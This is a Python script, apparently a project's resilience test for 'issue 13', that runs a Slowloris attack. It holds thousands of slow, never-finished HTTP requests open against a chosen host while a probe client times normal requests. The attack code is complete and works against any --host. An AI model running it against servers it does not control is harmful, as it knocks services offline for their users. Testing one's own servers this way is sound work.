#!/usr/bin/env python3
"""Slowloris against an HTTP server, with a normal client watching (issue 13).

Opens --connections TCP connections at --rate per second. Each sends the start of a request and
then one more byte of a header line that never ends every --interval seconds, for as long as the
server keeps the connection. Meanwhile a normal client sends GET --probe-path on a new connection
every --probe-every seconds and notes whether, and how fast, it is answered.

Prints one line every --report-every seconds (connections opened, held open now, closed by the
server, failed to connect, the probes so far) and a summary. Exit code 0 whatever it found: it
measures, it does not judge. Standard library only.
"""

import argparse
import asyncio
import resource
import time


class Tally:
    def __init__(self):
        self.opened = 0
        self.held = 0
        self.most_held = 0
        self.closed_by_server = 0
        self.connect_failures = 0
        self.hold_times = []
        self.probes_ok = 0
        self.probes_failed = 0
        self.probe_latencies = []

    def held_changed(self, delta):
        self.held += delta
        self.most_held = max(self.most_held, self.held)


async def slow_client(host, port, interval, tally, stop):
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        tally.connect_failures += 1
        return
    tally.opened += 1
    tally.held_changed(+1)
    started = time.monotonic()
    closed_by_server = False
    try:
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        await writer.drain()
        while not stop.is_set():
            try:
                # An answer (a 408, say) or the end of the stream: the server gave up on us.
                await asyncio.wait_for(reader.read(1024), timeout=interval)
                closed_by_server = True
                break
            except asyncio.TimeoutError:
                pass
            writer.write(b"a")
            await writer.drain()
    except (ConnectionError, OSError):
        closed_by_server = True
    finally:
        tally.held_changed(-1)
        if closed_by_server:
            tally.closed_by_server += 1
            tally.hold_times.append(time.monotonic() - started)
        writer.close()


async def probe(host, port, path, timeout, tally):
    started = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout)
        writer.write(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        await writer.drain()
        status_line = await asyncio.wait_for(reader.readline(), timeout)
        writer.close()
        if status_line.split(b" ")[1:2] == [b"200"]:
            tally.probes_ok += 1
            tally.probe_latencies.append(time.monotonic() - started)
            return
    except (OSError, asyncio.TimeoutError, IndexError):
        pass
    tally.probes_failed += 1


def percentile(values, fraction):
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]


async def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--rate", type=float, default=100, help="new slow connections per second")
    parser.add_argument("--interval", type=float, default=5, help="seconds between two bytes of one connection")
    parser.add_argument("--duration", type=float, default=60, help="seconds the whole run lasts")
    parser.add_argument("--probe-path", default="/healthz")
    parser.add_argument("--probe-every", type=float, default=1)
    parser.add_argument("--probe-timeout", type=float, default=5)
    parser.add_argument("--report-every", type=float, default=10)
    options = parser.parse_args()

    # Each slow connection is a file descriptor here too.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    tally = Tally()
    stop = asyncio.Event()
    tasks = set()
    started = time.monotonic()

    def keep(task):
        tasks.add(task)
        task.add_done_callback(tasks.discard)

    async def attack():
        for number in range(options.connections):
            if stop.is_set():
                return
            keep(asyncio.create_task(slow_client(options.host, options.port, options.interval, tally, stop)))
            # Paced against the clock, so that a slow connect does not slow the attack down.
            delay = started + (number + 1) / options.rate - time.monotonic()
            if delay > 0:
                await asyncio.sleep(delay)

    async def watch():
        while not stop.is_set():
            keep(asyncio.create_task(probe(options.host, options.port, options.probe_path, options.probe_timeout, tally)))
            await asyncio.sleep(options.probe_every)

    async def report():
        while not stop.is_set():
            await asyncio.sleep(options.report_every)
            print(
                f"t={time.monotonic() - started:5.0f}s opened={tally.opened} held={tally.held} "
                f"closed_by_server={tally.closed_by_server} connect_failures={tally.connect_failures} "
                f"probes ok={tally.probes_ok} failed={tally.probes_failed}",
                flush=True,
            )

    print(
        f"slowloris: up to {options.connections} connections at {options.rate:g}/s, one byte every "
        f"{options.interval:g}s, {options.duration:g}s; probe GET {options.probe_path} every {options.probe_every:g}s "
        f"(timeout {options.probe_timeout:g}s); open-file limit {hard}",
        flush=True,
    )
    workers = [asyncio.create_task(attack()), asyncio.create_task(watch()), asyncio.create_task(report())]
    await asyncio.sleep(options.duration)
    held_at_end = tally.held
    stop.set()
    for worker in workers:
        worker.cancel()
    for task in list(tasks):
        task.cancel()
    await asyncio.gather(*workers, *tasks, return_exceptions=True)

    print(
        f"summary: opened={tally.opened} most_held={tally.most_held} held_at_end={held_at_end} "
        f"closed_by_server={tally.closed_by_server} connect_failures={tally.connect_failures} "
        f"hold_p50={percentile(tally.hold_times, 0.5):.1f}s hold_max={max(tally.hold_times, default=float('nan')):.1f}s "
        f"probes ok={tally.probes_ok} failed={tally.probes_failed} "
        f"probe_p50={percentile(tally.probe_latencies, 0.5) * 1000:.1f}ms "
        f"probe_p99={percentile(tally.probe_latencies, 0.99) * 1000:.1f}ms",
        flush=True,
    )


if __name__ == "__main__":
    asyncio.run(main())
